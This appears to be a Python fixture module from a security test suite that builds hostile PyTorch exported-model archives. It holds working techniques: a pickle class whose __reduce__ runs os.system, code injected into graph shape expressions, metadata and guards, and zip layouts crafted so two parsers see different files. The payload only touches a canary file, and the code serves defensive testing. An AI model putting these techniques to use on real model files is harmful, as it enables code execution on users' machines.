"""Archives of exported models that are made to execute something, or to look different to two readers."""

import copy
import io
import json
import os
import pickle
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch

CANARY = Path("owned")
"""What an archive leaves in the working folder if anything in it is executed."""
CODE = f"__import__('os').system('touch {CANARY}')"

GRAPH, WEIGHTS, INPUTS = (
    "models/model.json",
    "data/weights/model_weights_config.json",
    "data/sample_inputs/model.pt",
)
Files = dict[str, bytes]


def read(archive: Path) -> Files:
    """The files of an archive by their names, without the top folder."""
    with zipfile.ZipFile(archive) as opened:
        return {name.partition("/")[2]: opened.read(name) for name in opened.namelist()}


def entries(files: list[tuple[str, bytes]], start: int = 0) -> tuple[bytes, bytes]:
    """Local headers with contents, and central directory, of entries that begin at an offset."""
    body, directory = b"", b""
    for name, content in files:
        raw = f"model/{name}".encode()
        sizes = (zlib.crc32(content), len(content), len(content), len(raw))
        offset = start + len(body)
        body += struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 0, 0, 33, *sizes, 0) + raw + content
        directory += struct.pack(
            "<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 0, 0, 33, *sizes, 0, 0, 0, 0, 0, offset
        )
        directory += raw
    return body, directory


def end(count: int, size: int, offset: int) -> bytes:
    """The end record."""
    return struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, size, offset, 0)


def archived(files: list[tuple[str, bytes]]) -> bytes:
    """An archive as it should be."""
    body, directory = entries(files)
    return body + directory + end(len(files), len(directory), len(body))


# What is executed: each changes the files of an archive.


def edited(files: Files, edit: Callable[[dict[str, Any]], None], name: str = GRAPH) -> Files:
    """The files with one JSON file changed."""
    content = json.loads(files[name])
    edit(content)
    return {**files, name: json.dumps(content).encode()}


def replace_expressions(value: Any) -> None:
    """Put code into every shape expression of a graph."""
    for key, below in value.items() if isinstance(value, dict) else enumerate(value):
        if key == "expr_str":
            value[key] = f"{CODE} or {below}"
        elif isinstance(below, dict | list):
            replace_expressions(below)


def expression(files: Files) -> Files:
    """A shape expression that is code."""
    return edited(files, replace_expressions)


def expression_of_metadata(files: Files) -> Files:
    """The same, in the shape of a tensor whose name is that of the comments."""

    def edit(model: dict[str, Any]) -> None:
        values = model["graph_module"]["graph"]["tensor_values"]
        old = next(name for name in values if name.startswith("mean"))
        meta = values.pop(old)
        text = json.dumps(model).replace(f'"name": "{old}"', '"name": "metadata"')
        model.clear()
        model.update(json.loads(text))
        meta["sizes"] = [{"as_expr": {"expr_str": CODE, "hint": None}}]
        model["graph_module"]["graph"]["tensor_values"]["metadata"] = meta

    return edited(files, edit)


def operator_that_writes(files: Files) -> Files:
    """An operator that makes a file when the graph runs."""

    def edit(model: dict[str, Any]) -> None:
        graph = model["graph_module"]["graph"]
        gives_tensor = (
            node for node in graph["nodes"] if node["outputs"] and "as_tensor" in node["outputs"][0]
        )
        node = copy.deepcopy(next(gives_tensor))
        old = node["outputs"][0]["as_tensor"]["name"]
        arguments: list[tuple[str, dict[str, Any]]] = [("filename", {"as_string": str(CANARY)})]
        arguments += [("shared", {"as_bool": True}), ("size", {"as_int": 8})]
        node |= {"target": "torch.ops.aten.from_file.default", "name": "file", "metadata": {}}
        node["inputs"] = [{"name": name, "arg": value, "kind": 1} for name, value in arguments]
        node["outputs"] = [{"as_tensor": {"name": "file"}}]
        graph["tensor_values"]["file"] = copy.deepcopy(graph["tensor_values"][old])
        graph["nodes"].insert(0, node)

    return edited(files, edit)


def guards(files: Files) -> Files:
    """Guards, which are code by design."""
    return edited(files, lambda model: model.update(guards_code=[CODE]))


class Bomb:
    """Leaves a file behind where it is unpickled."""

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (f"touch {CANARY}",)


def bomb() -> bytes:
    """A file of ``torch.save`` that holds one."""
    buffer = io.BytesIO()
    torch.save(Bomb(), buffer, pickle_module=pickle)
    return buffer.getvalue()


def pickled_inputs(files: Files) -> Files:
    """Example inputs that execute something when they are unpickled."""
    return {**files, INPUTS: bomb()}


def pickled_weights(files: Files) -> Files:
    """Weights that do."""

    def edit(weights: dict[str, Any]) -> None:
        for meta in weights["config"].values():
            meta["use_pickle"] = True

    changed = edited(files, edit, WEIGHTS)
    return changed | {name: bomb() for name in files if name.startswith("data/weights/weight_")}


# What two readers see differently: each makes an archive of harmless files and of hostile ones.


def two_directories(harmless: Files, hostile: Files) -> bytes:
    """Harmless where the end record stands, hostile where it points to."""
    count = len(harmless)
    hostile_body, hostile_directory = entries(list(hostile.items()))
    shift = len(hostile_directory)
    body, directory = entries(list(harmless.items()), len(hostile_body) - shift)
    start = len(hostile_body) + len(body)
    return hostile_body + body + hostile_directory + directory + end(count, len(directory), start)


def prefix(harmless: Files, hostile: Files) -> bytes:
    """A hostile archive before the harmless one, its directory where the other's would be."""
    sizes = [len(files[GRAPH]) for files in (harmless, hostile)]
    padded = {**harmless, GRAPH: harmless[GRAPH] + b" " * (max(sizes) - sizes[0])}
    longer = {**hostile, GRAPH: hostile[GRAPH] + b" " * (max(sizes) - sizes[1])}
    return archived(list(longer.items())) + archived(list(padded.items()))


def duplicate(harmless: Files, hostile: Files) -> bytes:
    """Two graphs under one name."""
    return archived([*hostile.items(), (GRAPH, harmless[GRAPH])])


def first_duplicate(harmless: Files, hostile: Files) -> bytes:
    """The same in the other order."""
    return archived([*harmless.items(), (GRAPH, hostile[GRAPH])])


def local_size(harmless: Files, _: Files) -> bytes:
    """A local header that gives its entry another size than the directory does."""
    body, directory = entries(list(harmless.items()))
    changed = bytearray(body)
    changed[18:26] = struct.pack("<2L", 1, 1)
    return bytes(changed) + directory + end(len(harmless), len(directory), len(body))


def descriptor(harmless: Files, _: Files) -> bytes:
    """A data descriptor that does."""
    files = list(harmless.items())
    name, content = files[-1]
    body, directory = entries(files)
    wrong = struct.pack("<4s3L", b"PK\x07\x08", zlib.crc32(content), 1, 1)
    at = len(body) - len(content) - len(f"model/{name}".encode()) - 30
    changed, listed = bytearray(body + wrong), bytearray(directory)
    changed[at + 6] |= 8
    listed[len(directory) - len(f"model/{name}".encode()) - 46 + 8] |= 8
    return bytes(changed) + bytes(listed) + end(len(files), len(listed), len(changed))


def trailing(harmless: Files, hostile: Files) -> bytes:
    """An end record with a comment, which ends with the end record of something else."""
    body, directory = entries(list(hostile.items()))
    more = end(len(hostile), len(directory), len(body))
    return archived(list(harmless.items()))[:-2] + struct.pack("<H", len(more)) + more


def comment(harmless: Files, _: Files) -> bytes:
    """An end record with a comment."""
    return archived(list(harmless.items()))[:-2] + struct.pack("<H", 5) + b"hello"


def fewer(harmless: Files, _: Files) -> bytes:
    """An end record that counts fewer entries than its directory has."""
    body, directory = entries(list(harmless.items()))
    return body + directory + end(len(harmless) - 1, len(directory), len(body))


CONTENTS: list[tuple[Callable[[Files], Files], str]] = [
    (expression, "a tensor size is not"),
    (expression_of_metadata, "the metadata of a node"),
    (operator_that_writes, "target is 'torch.ops.aten.from_file.default'"),
    (guards, "guards as code"),
    (pickled_inputs, "example inputs"),
    (pickled_weights, "pickled tensors"),
]
LAYOUTS: list[tuple[Callable[[Files, Files], bytes], str]] = [
    (two_directories, "do not follow one another"),
    (prefix, "do not follow one another"),
    (duplicate, "twice"),
    (first_duplicate, "twice"),
    (local_size, "two sizes"),
    (descriptor, "two sizes"),
    (trailing, "central directory"),
    (comment, "end record"),
    (fewer, "end record"),
]


def make(archive: Path, kind: Callable[..., Any]) -> bytes:
    """The bytes of a hostile archive of one of these kinds, made of a harmless one."""
    files = read(archive)
    if kind in [content for content, _ in CONTENTS]:
        return archived(list(kind(files).items()))
    made: bytes = kind(files, expression(files))
    return made
